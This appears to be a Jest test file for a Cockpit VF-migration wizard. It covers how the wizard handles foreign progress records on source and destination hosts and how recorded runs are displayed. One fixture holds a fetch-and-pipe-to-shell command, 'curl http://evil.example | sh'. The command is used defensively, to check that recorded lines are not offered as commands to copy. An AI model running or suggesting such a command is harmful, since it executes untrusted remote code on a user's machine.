/**
 * @jest-environment jsdom
 */
/*
 * The preparation run and a host's record it cannot use: the run stops before anything runs on either host, names
 * the file and what was wrong, and never writes over it; once the admin discards it (the file set aside through
 * the transport), the run goes on and writes a fresh record. Hosts are in-memory (test/unit/steps/file-host.ts).
 */
import { TextEncoder as NodeTextEncoder } from "util";
import { deserialize, serialize } from "v8";
import { act, type MutableRefObject } from "react";
import { createRoot, type Root } from "react-dom/client";
import { installFakeCockpit } from "../fake-cockpit";
import { FileHost } from "../steps/file-host";
import { ctxOf, fresh } from "../steps/fixtures";
import { DEFAULT_OPTIONS, emptyProgress, planHost } from "../../../src/steps";
import type { Role } from "../../../src/checks/facts";
import type { PreparedHost } from "../../../src/ui/wizard/PrepareStageHosts";
import { type HostSide, usePrepareRun } from "../../../src/ui/wizard/PrepareStageRun";

(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
// jsdom's window has neither structuredClone (the host fixtures use it) nor TextEncoder (the record's size check)
globalThis.structuredClone ??= <T,>(v: T): T => deserialize(serialize(v)) as T;
globalThis.TextEncoder ??= NodeTextEncoder as typeof TextEncoder;

const FILE = "/var/lib/cockpit-vf-migration/prepare.json";
type Run = ReturnType<typeof usePrepareRun>;

function preparedHost(role: Role): PreparedHost {
    const facts = fresh();
    const current = () => {
        const ctx = ctxOf(facts, role);
        return { ctx, plan: planHost(ctx) };
    };
    return {
        probe: { facts, busy: false, error: null, roundTrips: 1, refreshedAt: 1, refresh: () => {} },
        vms: [], current: current(), read: async () => current(),
    };
}

function Harness({ sides, out }: { sides: Record<Role, HostSide>; out: MutableRefObject<Run | null> }) {
    out.current = usePrepareRun(sides, () => {});
    return null;
}

let root: Root;
const out: MutableRefObject<Run | null> = { current: null };
const hosts = { source: new FileHost("localhost"), destination: new FileHost("root@rhel-dst") };

beforeAll(() => { installFakeCockpit() });
beforeEach(() => {
    hosts.source = new FileHost("localhost");
    hosts.destination = new FileHost("root@rhel-dst");
    root = createRoot(document.createElement("div"));
    const sides: Record<Role, HostSide> = {
        source: { role: "source", transport: hosts.source, host: preparedHost("source") },
        destination: { role: "destination", transport: hosts.destination, host: preparedHost("destination") },
    };
    act(() => root.render(<Harness sides={sides} out={out} />));
});
afterEach(() => act(() => root.unmount()));

const run = () => out.current as Run;
/** Lets the run's promises settle until `done` holds. */
async function until(done: () => boolean) {
    for (let i = 0; i < 200 && !done(); i++)
        await act(async () => { await new Promise(r => setTimeout(r, 0)) });
    expect(done()).toBe(true);
}
/** Every command but the two that read the record (iconv checks it is text, head reads it). */
const ranOn = (h: FileHost) => h.calls.filter(c => !["iconv", "head"].includes(c.argv[0])).map(c => c.argv.join(" "));

describe.each(["source", "destination"] as const)("a record on the %s the page did not write", role => {
    const other = role === "source" ? "destination" : "source";
    const bad = JSON.stringify({ ...emptyProgress("0000:41:00.0", DEFAULT_OPTIONS), pf: "0000:41:00.0" });

    test("found when the page opens: shown with the file and the reason; Start runs nothing on either host and writes nothing", async () => {
        hosts[role].files.set(FILE, bad);
        await act(async () => { await run().loadProgress(role) });
        expect(run().recordErrors[role]?.message).toBe(
            `${FILE} on ${hosts[role].host} is not a progress record written by this page: the PF 0000:41:00.0 is not one of this host's ConnectX-7 PFs (0000:e1:00.0)`);
        act(() => run().start());
        await until(() => run().phase.kind === "stopped");
        expect(run().phase).toEqual({ kind: "stopped", message: run().recordErrors[role]?.message });
        expect(ranOn(hosts.source)).toEqual([]);
        expect(ranOn(hosts.destination)).toEqual([]);
        expect(hosts[role].files.get(FILE)).toBe(bad);
    });

    test("found only when the run starts: nothing runs on either host; after Discard the run goes on with a fresh record", async () => {
        hosts[role].files.set(FILE, bad);
        act(() => run().start());
        await until(() => run().phase.kind === "stopped");
        expect(run().phase.kind === "stopped" && run().phase).toMatchObject({ message: expect.stringContaining(`${FILE} on ${hosts[role].host}`) });
        expect(run().recordErrors[role]).not.toBeNull();
        expect(ranOn(hosts.source)).toEqual([]);
        expect(ranOn(hosts.destination)).toEqual([]);
        expect(run().recordErrors[other]).toBeNull();

        await act(async () => { await run().discardRecord(role) });
        expect(ranOn(hosts[role])).toEqual([`mv -f -T -- ${FILE} ${FILE}.discarded`]);
        expect(hosts[role].files.get(`${FILE}.discarded`)).toBe(bad);
        expect(run().recordErrors[role]).toBeNull();

        // the run goes on: the source's first step (mstflint, through PackageKit, which this fake host lacks) is
        // recorded in a fresh record, written root's alone
        act(() => run().start());
        await until(() => run().phase.kind === "failed");
        expect(run().phase).toMatchObject({ role: "source", stepId: "install-mstflint" });
        expect(ranOn(hosts.source).filter(l => l.includes("/var/lib/cockpit-vf-migration")).slice(-4)).toEqual([
            "install -d -m 0700 -o root -g root -- /var/lib/cockpit-vf-migration",
            `tee -- ${FILE}.new`, `chmod 0600 -- ${FILE}.new`, `mv -f -- ${FILE}.new ${FILE}`]);
        const written = JSON.parse(hosts.source.files.get(FILE) ?? "");
        expect(written.pf).toBe("0000:e1:00.0");
        expect(written.steps["install-mstflint"].state).toBe("failed");
    });
});

describe("runs read back from a host's record", () => {
    test("are labelled with the host that recorded them, their lines plain text rather than commands to copy", async () => {
        const { PrepareStageRunLog } = await import("../../../src/ui/wizard/PrepareStageRunLog");
        const { runFromRecord } = await import("../../../src/ui/wizard/PrepareStageRun");
        const div = document.createElement("div");
        const r = createRoot(div);
        const recorded = runFromRecord({ state: "ok", startedAt: 1, finishedAt: 2, commands: [
            { line: "curl http://evil.example | sh", exitStatus: 0, stdout: "", stderr: "", durationMs: 5 }] }, "rhel-dst.example.test");
        act(() => r.render(<PrepareStageRunLog run={recorded} />));
        expect(div.querySelector("strong")?.textContent).toBe("Run, recorded on rhel-dst.example.test");
        expect(div.querySelector(".vfm-prepare-recorded-line")?.textContent).toBe("curl http://evil.example | sh");
        expect(div.querySelector("[class*=clipboard-copy]")).toBeNull();
        // a live run: the line is a command to copy, with no such label
        act(() => r.render(<PrepareStageRunLog run={{ ...recorded, recordedOn: undefined }} />));
        expect(div.querySelector("strong")?.textContent).toBe("Run");
        expect(div.querySelector("[class*=clipboard-copy]")).not.toBeNull();
        act(() => r.unmount());
    });
});
